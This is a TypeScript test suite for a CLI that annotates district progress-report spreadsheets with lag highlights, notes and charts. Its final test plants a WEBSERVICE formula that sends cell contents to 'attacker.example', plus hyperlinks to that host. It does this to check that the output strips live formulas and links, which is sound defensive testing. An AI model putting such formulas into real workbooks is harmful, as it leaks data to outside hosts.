// `minsheng annotate` on sample submissions: the copy marks exactly the district's lagging rows (fill by
// status, a Chinese note on 累計完成 with expected vs actual and the missed milestone), adds the 圖表
// sheet with the trend and ranking charts, and the input file stays byte for byte what it was.
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import ExcelJS from 'exceljs';
import { districtTrendChart } from '../pipeline/charts/districtTrend';
import { rankingChart } from '../pipeline/charts/ranking';
import { chartSize, DEFAULT_SCALE } from '../pipeline/charts/render';
import { percentText } from '../pipeline/charts/theme';
import { queryLag, queryRanking } from '../pipeline/db/queries';
import { openStore } from '../pipeline/db/store';
import { rowObjects, type Cell } from '../pipeline/output/resultTable';
import { ReportRankingRow } from '../pipeline/report/reportData';
import { chartSheetBaseName } from '../pipeline/report/annotate';

const CHART_SHEET = chartSheetBaseName('zh-TW');
import { LAG_STATUS_FILLS } from '../core/lagStatus';
import { rowsFrom } from '../pipeline/db/rows';
import { runCli } from './helpers/cli';
import { buildSampleDb, sheetImages } from './helpers/sampleDb';
import { removeTempDirs, tempDir } from './helpers/tempDir';
import { pngSize } from './helpers/png';
import { SUBMISSIONS_DIR } from './helpers/samples';

/** The sample's slow district (臨平區), one with a stalled metric (建德市), one with a missing month (上城區). */
const DISTRICTS = ['臨平區', '建德市', '上城區'];

let dir: string;
let db: string;

const sha256 = (file: string) => createHash('sha256').update(fs.readFileSync(file)).digest('hex');

beforeAll(async () => {
  dir = tempDir('minsheng-annotate-');
  db = path.join(dir, 'minsheng.duckdb');
  await buildSampleDb(db, { include: (file) => DISTRICTS.some((d) => path.basename(file).startsWith(d)) });
}, 300_000);

afterAll(removeTempDirs);

async function lagOf(district: string, asOf: string): Promise<Map<string, Record<string, Cell>>> {
  const store = await openStore(db, { readOnly: true });
  try {
    const rows = rowObjects(await queryLag(store, asOf)).filter((r) => r.district === district);
    return new Map(rows.map((r) => [String(r.metric_id), r]));
  } finally {
    store.close();
  }
}

interface Annotated {
  wb: ExcelJS.Workbook;
  input: string;
  output: string;
  stdout: string;
  stderr: string;
}

let annotations = 0;

async function annotate(month: string, district: string, ...extra: string[]): Promise<Annotated> {
  const input = path.join(SUBMISSIONS_DIR, month, `${district}.xlsx`);
  // A file of its own per call: annotate keeps an existing output unless --force.
  const output = path.join(dir, `${district}-${month}-標注-${++annotations}.xlsx`);
  const before = sha256(input);
  const run = await runCli('annotate', input, '-o', output, '--db', db, ...extra);
  expect([run.code, run.stderr]).toEqual([0, '']);
  expect(sha256(input)).toBe(before);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(output);
  return { wb, input, output, stdout: run.stdout, stderr: run.stderr };
}

/** The template's data rows: 指標編號 → row, with the header's columns. */
function templateRows(ws: ExcelJS.Worksheet): { rows: Map<string, number>; completedCol: number; firstCol: number; lastCol: number } {
  let headerRow = 0;
  ws.eachRow((row, r) => {
    if (!headerRow && row.values && (row.values as unknown[]).includes('累計完成')) headerRow = r;
  });
  const header = ws.getRow(headerRow);
  const cols: Record<string, number> = {};
  header.eachCell((cell, c) => (cols[String(cell.value)] = c));
  const rows = new Map<string, number>();
  for (let r = headerRow + 1; r <= ws.rowCount; r++) {
    const id = ws.getCell(r, cols['指標編號']).value;
    if (typeof id === 'string' && /^\d+-\d+$/.test(id)) rows.set(id, r);
  }
  const used = Object.values(cols);
  return { rows, completedCol: cols['累計完成'], firstCol: Math.min(...used), lastCol: Math.max(...used) };
}

function noteText(cell: ExcelJS.Cell): string | undefined {
  const note = cell.note as string | { texts?: { text: string }[] } | undefined;
  if (note === undefined || note === null) return undefined;
  return typeof note === 'string' ? note : (note.texts ?? []).map((t) => t.text).join('');
}

test('the copy marks exactly the lagging rows of the district, each with a note saying what was expected and done', async () => {
  const { wb } = await annotate('2024-09', '臨平區');
  const lag = await lagOf('臨平區', '2024-09-30');
  const ws = wb.getWorksheet('進度報送表')!;
  const { rows, completedCol, firstCol, lastCol } = templateRows(ws);
  expect(rows.size).toBe(lag.size);
  let marked = 0;
  for (const [metric, row] of rows) {
    const expected = lag.get(metric)!;
    const status = expected.lag_status as keyof typeof LAG_STATUS_FILLS;
    const lagging = status !== 'on_track';
    const fills = [];
    for (let c = firstCol; c <= lastCol; c++) fills.push((ws.getCell(row, c).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb);
    const note = noteText(ws.getCell(row, completedCol));
    if (lagging) {
      marked++;
      expect([metric, new Set(fills)]).toEqual([metric, new Set([LAG_STATUS_FILLS[status]])]);
      expect(note).toBeDefined();
      expect(note).toContain(percentText(Number(expected.expected_ratio)));
      if (expected.completion !== null) expect(note).toContain(percentText(Number(expected.completion)));
      if (expected.milestone_text) expect(note).toContain(String(expected.milestone_text));
    } else {
      expect([metric, fills.some((f) => Object.values(LAG_STATUS_FILLS).includes(f as string)), note]).toEqual([metric, false, undefined]);
    }
  }
  expect(marked).toBeGreaterThanOrEqual(5);
});

test('values and the other sheets of the submission are carried over unchanged, formulas as the value they showed', async () => {
  const { wb, input } = await annotate('2024-09', '臨平區');
  const original = new ExcelJS.Workbook();
  await original.xlsx.readFile(input);
  expect(wb.worksheets.map((ws) => ws.name)).toEqual([...original.worksheets.map((ws) => ws.name), CHART_SHEET]);
  for (const source of original.worksheets) {
    const copy = wb.getWorksheet(source.name)!;
    source.eachRow((row, r) =>
      row.eachCell((cell, c) => {
        const shown = cell.type === ExcelJS.ValueType.Formula ? ((cell.value as { result?: ExcelJS.CellValue }).result ?? null) : cell.value;
        expect([source.name, cell.address, copy.getCell(r, c).value]).toEqual([source.name, cell.address, shown]);
      }),
    );
  }
});

test('the 圖表 sheet holds the district trend and the ranking chart as PNGs of their specs’ size', async () => {
  const { wb } = await annotate('2024-09', '臨平區');
  const store = await openStore(db, { readOnly: true });
  let rankingRows;
  try {
    rankingRows = rowsFrom(ReportRankingRow, await queryRanking(store, '2024-09-30'));
  } finally {
    store.close();
  }
  const scaled = (spec: Parameters<typeof chartSize>[0]) => {
    const size = chartSize(spec);
    return { width: Math.round(size.width * DEFAULT_SCALE), height: Math.round(size.height * DEFAULT_SCALE) };
  };
  const ws = wb.getWorksheet(CHART_SHEET)!;
  const images = sheetImages(wb, ws).sort((a, b) => a.cells.top - b.cells.top);
  expect(images.map((i) => pngSize(i.png))).toEqual([scaled(districtTrendChart('臨平區', [], 'zh-TW')), scaled(rankingChart(rankingRows, '2024-09-30', 'zh-TW'))]);
  expect(images[0].cells.bottom).toBeLessThan(images[1].cells.top);
  expect(ws.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape' });
});

test('the stalled metric the sample README names, and every other stalled one, says nothing was added since the previous report', async () => {
  const named = /停滯：(\S+?) 的指標 (\d+-\d+)「[^」]*」 在 (\S+) 和 (\S+) 兩次報送/.exec(fs.readFileSync(path.join(SUBMISSIONS_DIR, 'README.md'), 'utf8'));
  expect(named?.slice(1)).toEqual(['建德市', expect.any(String), expect.any(String), '2024-09-30']);
  const [, district, metricId, previous] = named!;
  const { wb } = await annotate('2024-09', district);
  const lag = await lagOf(district, '2024-09-30');
  const stalled = [...lag.values()].filter((r) => r.lag_status === 'stalled');
  expect(stalled.map((r) => [r.metric_id, r.previous_report_date])).toContainEqual([metricId, previous]);
  const ws = wb.getWorksheet('進度報送表')!;
  const { rows, completedCol } = templateRows(ws);
  for (const r of stalled) {
    const note = noteText(ws.getCell(rows.get(String(r.metric_id))!, completedCol));
    expect(note).toContain('停滯');
    expect(note).toContain(String(r.previous_report_date));
  }
});

test('--as-of judges the submission at another date', async () => {
  const { wb, stdout } = await annotate('2024-05', '上城區', '--as-of', '2024-06-30');
  expect(stdout).toContain('2024-06-30');
  const lag = await lagOf('上城區', '2024-06-30');
  const ws = wb.getWorksheet('進度報送表')!;
  const { rows, completedCol } = templateRows(ws);
  const lagging = [...lag.values()].filter((r) => r.lag_status !== 'on_track').map((r) => String(r.metric_id));
  const noted = [...rows].filter(([, row]) => noteText(ws.getCell(row, completedCol)) !== undefined).map(([metric]) => metric);
  expect(noted.sort()).toEqual(lagging.sort());
});

test('the copy cannot be written over the submission it is made from', async () => {
  const input = path.join(dir, '臨平區.xlsx');
  fs.copyFileSync(path.join(SUBMISSIONS_DIR, '2024-09', '臨平區.xlsx'), input);
  const before = sha256(input);
  for (const target of [input, path.join(dir, '.', '臨平區.xlsx')]) {
    const run = await runCli('annotate', input, '-o', target, '--db', db);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('就是輸入檔案');
  }
  expect(sha256(input)).toBe(before);
});

test('the copy holds values only: no formula and no link of the input survives, each cell keeps the value it showed', async () => {
  const input = path.join(dir, '臨平區-links.xlsx');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path.join(SUBMISSIONS_DIR, '2024-09', '臨平區.xlsx'));
  const ws = wb.getWorksheet('進度報送表')!;
  const { rows, lastCol } = templateRows(ws);
  const [first, second, third] = [...rows.values()];
  const planted = [
    { row: first, value: { formula: 'WEBSERVICE("http://attacker.example/?"&A1)', result: '已核實' }, shown: '已核實' },
    { row: second, value: { formula: 'HYPERLINK("http://attacker.example","點此查看")', result: '點此查看' }, shown: '點此查看' },
    { row: third, value: { text: '詳見附件', hyperlink: 'http://attacker.example/file' }, shown: '詳見附件' },
  ];
  for (const p of planted) ws.getCell(p.row, lastCol).value = p.value as ExcelJS.CellValue;
  const formulasBefore: string[] = [];
  ws.eachRow((row) => row.eachCell((cell) => cell.type === ExcelJS.ValueType.Formula && formulasBefore.push(cell.address)));
  expect(formulasBefore.length).toBeGreaterThan(planted.length); // 完成率 is a formula in the template too
  await wb.xlsx.writeFile(input);

  const output = path.join(dir, '臨平區-links-標注.xlsx');
  const run = await runCli('annotate', input, '-o', output, '--db', db);
  expect(run.code).toBe(0); // with a note that this file is not the one loaded
  const out = new ExcelJS.Workbook();
  await out.xlsx.readFile(output);
  const live: string[] = [];
  out.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Hyperlink) live.push(`${sheet.name}!${cell.address}`);
      }),
    ),
  );
  expect(live).toEqual([]);
  const copy = out.getWorksheet('進度報送表')!;
  for (const p of planted) expect(copy.getCell(p.row, lastCol).value).toBe(p.shown);
  const xml = fs.readFileSync(output).toString('latin1');
  expect(xml).not.toContain('attacker.example');
});
